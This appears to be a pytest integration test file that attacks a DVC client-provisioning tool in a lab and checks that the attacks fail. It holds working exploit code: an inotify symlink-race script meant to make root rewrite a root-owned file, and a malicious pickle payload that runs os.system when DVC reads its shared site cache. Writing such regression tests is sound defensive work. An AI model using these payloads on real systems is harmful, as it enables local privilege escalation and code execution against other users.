"""Attacks on an onboarded client machine, performed on the lab, and shown to fail.

- a process of the connecting user (ansible_become) races provision's file installs in ~/.ssh and .dvc,
  swapping temporary files for links to a root-owned file;
- another local user plants a pickle in DVC's shared site cache (/var/tmp/dvc) for the victim's checkout;
- storage's host key changes under a client's own `dvc pull`/`dvc push`;
- config.local holds other credentials when `--diff`/`--json` show it.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from provision.lab import Lab
from tests.integration.clirunner import provision, provision_json
from tests.integration.helpers import (
    DVC,
    WORKDIR,
    become_admin,
    bootstrap_and_onboard,
    failures,
    own_lab,
    run,
    sh,
    task,
)

pytestmark = pytest.mark.integration

HOST_VENV_PYTHON = "/opt/provision/dvc/bin/python"
SITE_PACKAGES = "/opt/provision/dvc/lib/python3.11/site-packages"
CANARY = "/etc/provision-canary"
MARKER = "/tmp/planted-pickle-ran"

# Run as the connecting user: every `.provision.*` file created in the watched directories is replaced by
# a link to argv[1] at once (inotify; its own links are left alone), until argv[2] exists; prints "ready",
# then the number of swaps.
RACER = r"""
import ctypes, os, select, struct, sys
libc = ctypes.CDLL("libc.so.6", use_errno=True)
IN_CREATE = 0x100
target, stop, watched = sys.argv[1], sys.argv[2], sys.argv[3:]
fd = libc.inotify_init1(os.O_NONBLOCK)
directories = {libc.inotify_add_watch(fd, d.encode(), IN_CREATE): d for d in watched}
print("ready", flush=True)
swaps = 0
while not os.path.exists(stop):
    if not select.select([fd], [], [], 0.1)[0]:
        continue
    data, offset = os.read(fd, 65536), 0
    while offset < len(data):
        wd, mask, cookie, length = struct.unpack_from("iIII", data, offset)
        name = data[offset + 16:offset + 16 + length].rstrip(b"\0").decode()
        offset += 16 + length
        path = os.path.join(directories[wd], name)
        if name.startswith(".provision.") and not os.path.islink(path):
            try:
                os.unlink(path)
                os.symlink(target, path)
                swaps += 1
            except OSError:
                pass
print(swaps, flush=True)
"""

# Run as another local user with argv[1] = the victim's DVC site cache directory for the checkout: a links
# database whose entry for an existing file unpickles to a command writing MARKER (DVC reads it on checkout).
PLANT = r"""
import os, sys
import diskcache
class Payload:
    def __reduce__(self):
        return (os.system, ("id -un > %s" % sys.argv[2],))
cache = diskcache.Cache(os.path.join(sys.argv[1], "links"))
cache.set(".dvcignore", Payload())
cache.close()
"""

# The site cache directory DVC would use for a checkout without provision's setting ($1: the checkout).
DEFAULT_SITE_CACHE = r"""
import sys
from dvc.repo import Repo
print(Repo(sys.argv[1]).site_cache_dir)
"""


@dataclass
class Site:
    lab: Lab
    home: Path
    ping_before: dict
    onboard: dict


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """storage, ws1 and ws2: pinged, bootstrapped with v1.0; ws1 onboarded (root login) with --pull."""
    with own_lab(tmp_path_factory, "hardening", ["storage", "ws1", "ws2"]) as (lab, home):
        status, ping_before = provision_json("ping", "-i", str(lab.inventory_path), home=home)
        assert status == 0, failures(ping_before)
        document = bootstrap_and_onboard(lab, home, "ws1", "--pull", dataset=True)
        yield Site(lab, home, ping_before, document)


def dvc(lab: Lab, host: str, *args: str, env: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
    return lab.exec(host, ["env", "DVC_NO_ANALYTICS=1", *env, DVC, "--cd", WORKDIR, *args])


# ------------------------------------------------------------------------ 7: dvc's SSH remote

def test_onboard_installs_the_guard_into_the_hosts_own_dvc_venv(site: Site) -> None:
    lab = site.lab
    dvc_task = task(site.onboard, "ws1", "dvc")
    assert "install provision's dvc-ssh guard into " + SITE_PACKAGES in dvc_task["msg"]
    assert "warning" not in dvc_task["msg"]
    pth = lab.host_path("ws1", f"{SITE_PACKAGES}/provision_dvc_ssh_guard.pth").read_text()
    assert pth == "import provision_dvc_ssh_guard\n"
    stat = sh(lab, "ws1", ["stat", "-c", "%U %a", f"{SITE_PACKAGES}/provision_dvc_ssh_guard.py"]).split()
    assert stat == ["root", "644"]
    shared = Path(lab.shared_dvc or "/nonexistent")
    assert not list(shared.glob("lib/python*/site-packages/provision_dvc_ssh_guard*"))


def test_ping_warns_about_a_dvc_without_the_guard(site: Site) -> None:
    before = task(site.ping_before, "ws1", "host info")["msg"]
    assert "warning: /opt/provision/dvc/bin/dvc lacks provision's dvc-ssh guard" in before
    lab = site.lab
    fake = lab.host_path("ws2", "/usr/local/sbin/dvc")
    fake.write_text("#!/bin/sh\necho 3.60.0\n")
    fake.chmod(0o755)
    try:
        status, document = provision_json("ping", "-i", str(lab.inventory_path), home=site.home)
        assert status == 0, failures(document)
        assert "warning" not in task(document, "ws1", "host info")["msg"]
        assert "warning: dvc on PATH (/usr/local/sbin/dvc) is not the dvc provision installs" in \
            task(document, "ws2", "host info")["msg"]
    finally:
        fake.unlink()


def test_own_dvc_pull_and_push_fail_on_a_rekeyed_storage_then_work_again(site: Site) -> None:
    lab, home = site.lab, site.home
    run(lab, "ws1", ["rm", "-rf", f"{WORKDIR}/data"])
    pulled = dvc(lab, "ws1", "pull")
    assert pulled.returncode == 0, pulled.stdout + pulled.stderr

    lab.rekey("storage")
    try:
        run(lab, "ws1", ["rm", "-rf", f"{WORKDIR}/data"])
        refused_pull = dvc(lab, "ws1", "pull")
        assert refused_pull.returncode != 0
        assert "Host key is not trusted" in refused_pull.stdout + refused_pull.stderr, refused_pull.stderr
        run(lab, "ws1", ["git", "-C", WORKDIR, "checkout", "--", "."])
        run(lab, "ws1", ["mkdir", "-p", f"{WORKDIR}/more"])
        run(lab, "ws1", ["sh", "-c", 'echo "pushed by hand" > "$1"', "sh", f"{WORKDIR}/more/new.txt"])
        run(lab, "ws1", [DVC, "--cd", WORKDIR, "add", "--quiet", "more"])
        refused_push = dvc(lab, "ws1", "push")
        assert refused_push.returncode != 0
        assert "Host key is not trusted" in refused_push.stdout + refused_push.stderr, refused_push.stderr
        assert lab.exec("storage", ["grep", "-rqs", "pushed by hand", "/mnt/nfs/cache"]).returncode != 0
    finally:
        for argv in (("hostkeys", "forget", "-i", str(lab.inventory_path), "storage"),
                     ("hostkeys", "scan", "-i", str(lab.inventory_path))):
            assert provision(*argv, home=home).returncode == 0
        status, document = provision_json("onboard", "-i", str(lab.inventory_path), "ws1", home=home)
        assert status == 0, failures(document)

    pushed = dvc(lab, "ws1", "push")
    assert pushed.returncode == 0, pushed.stdout + pushed.stderr
    assert lab.exec("storage", ["grep", "-rqs", "pushed by hand", "/mnt/nfs/cache"]).returncode == 0
    pulled = dvc(lab, "ws1", "pull")
    assert pulled.returncode == 0, pulled.stdout + pulled.stderr
    assert sh(lab, "ws1", ["cat", f"{WORKDIR}/data/hello.txt"]) == "hello v1\n"


# ------------------------------------------------------------------------ 6: DVC's shared site cache

def test_a_pickle_planted_in_the_shared_site_cache_is_never_read(site: Site) -> None:
    lab = site.lab
    private = "/root/.cache/provision-dvc-site/demo"
    assert sh(lab, "ws1", ["stat", "-c", "%U %a %F", private]).split() == ["root", "700", "directory"]
    listing = sh(lab, "ws1", [DVC, "--cd", WORKDIR, "config", "--list", "--show-origin"])
    assert f"config.local\tcore.site_cache_dir={private}" in listing

    run(lab, "ws1", ["useradd", "--create-home", "mallory"])
    run(lab, "ws1", ["su", "-s", "/bin/sh", "-c", "mkdir -p -m 0777 /var/tmp/dvc/repo", "mallory"])
    default = sh(lab, "ws1", ["env", "DVC_SITE_CACHE_DIR=/var/tmp/dvc", HOST_VENV_PYTHON, "-c", DEFAULT_SITE_CACHE,
                              WORKDIR]).strip()
    assert default.startswith("/var/tmp/dvc/repo/")
    run(lab, "ws1", ["rm", "-rf", default])  # opening the repository made it: mallory plants before any victim run
    run(lab, "ws1", ["su", "-s", "/bin/sh", "-c", '"$0" -c "$1" "$2" "$3"', "mallory",
                     HOST_VENV_PYTHON, PLANT, default, MARKER])
    run(lab, "ws1", ["rm", "-rf", f"{WORKDIR}/data"])

    for command in (("status",), ("pull",), ("checkout",)):
        done = dvc(lab, "ws1", *command)
        assert done.returncode == 0, done.stdout + done.stderr
    assert not lab.host_path("ws1", MARKER).exists()
    assert sh(lab, "ws1", ["cat", f"{WORKDIR}/data/hello.txt"]) == "hello v1\n"

    # The same plant, with the setting overridden, runs as the victim: the attack above was real.
    control = dvc(lab, "ws1", "pull", env=("DVC_SITE_CACHE_DIR=/var/tmp/dvc",))
    assert control.returncode == 0, control.stdout + control.stderr
    assert lab.host_path("ws1", MARKER).read_text() == "root\n"


# ------------------------------------------------------------------------ 10: other credentials in --diff

def test_diff_and_json_mask_every_credential_in_config_local(site: Site) -> None:
    lab = site.lab
    config_local = lab.host_path("ws1", f"{WORKDIR}/.dvc/config.local")
    kept = [line for line in config_local.read_text().splitlines() if not line.strip().startswith("user")]
    config_local.write_text("['remote \"backup\"']\n    url = ssh://backup.invalid/srv/dvc\n"
                            "    passphrase = unlock-the-backup-key\n    password = backup-password-7\n"
                            + "\n".join(kept) + "\n")
    status, document = provision_json("onboard", "-i", str(lab.inventory_path), "ws1", "--diff", home=site.home)
    assert status == 0, failures(document)
    text = json.dumps(document)
    assert "unlock-the-backup-key" not in text and "backup-password-7" not in text
    diff = task(document, "ws1", "dvc config.local")["diff"]
    assert "+    user = dvc" in diff
    assert "passphrase = ********" in diff and "password = ********" in diff
    assert "unlock-the-backup-key" in config_local.read_text()


# ------------------------------------------------------------------------ 5: racing the installs

def test_a_racing_user_process_cannot_make_root_rewrite_a_root_file(site: Site) -> None:
    """ws2 reached as the lab's sudo admin: a process of that admin races every install in its own directories."""
    lab, home = site.lab, site.home
    inventory, env = become_admin(lab, home, {"ws2"})
    status, document = provision_json("onboard", "-i", str(inventory), "ws2", home=home, env=env)
    assert status == 0, failures(document)

    admin_home = f"/home/{lab.admin_user}"
    ssh_dir, dvc_dir = f"{admin_home}/.ssh", f"{admin_home}/demo/.dvc"
    run(lab, "ws2", ["sh", "-c", 'printf "canary\\n" > "$1" && chmod 0600 "$1"', "sh", CANARY])
    canary_before = sh(lab, "ws2", ["stat", "-c", "%U %G %a %s", CANARY]) + sh(lab, "ws2", ["cat", CANARY])
    run(lab, "ws2", ["rm", "-f", f"{ssh_dir}/known_hosts", f"{dvc_dir}/config.local"])
    lab.host_path("ws2", "/tmp/racer.py").write_text(RACER)
    racer = subprocess.Popen(
        ["nsenter", "--target", str(lab.pid("ws2")), "--mount", "--uts", "--", "su", "-s", "/bin/sh", "-c",
         'exec python3 /tmp/racer.py "$0" "$1" "$2" "$3"', lab.admin_user, CANARY, "/tmp/racer.stop",
         ssh_dir, dvc_dir], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert racer.stdout is not None and racer.stdout.readline().strip() == "ready"
        raced_status, raced = provision_json("onboard", "-i", str(inventory), "ws2", home=home, env=env)
    finally:
        lab.host_path("ws2", "/tmp/racer.stop").touch()
        output, errors = racer.communicate(timeout=60)
    swaps = int(output.strip().splitlines()[-1])
    assert swaps > 0, f"the racer never caught a temporary file: {errors}"
    canary_after = sh(lab, "ws2", ["stat", "-c", "%U %G %a %s", CANARY]) + sh(lab, "ws2", ["cat", CANARY])
    assert canary_after == canary_before, (raced_status, failures(raced))

    # Without the racer (and without what it left behind), the client converges as the admin's own files.
    run(lab, "ws2", ["find", ssh_dir, dvc_dir, "-maxdepth", "1", "-type", "l", "-delete"])
    status, document = provision_json("onboard", "-i", str(inventory), "ws2", home=home, env=env)
    assert status == 0, failures(document)
    owners = sh(lab, "ws2", ["stat", "-c", "%U %a", f"{ssh_dir}/known_hosts", f"{dvc_dir}/config.local"])
    assert owners.split("\n")[:2] == [f"{lab.admin_user} 644", f"{lab.admin_user} 600"]
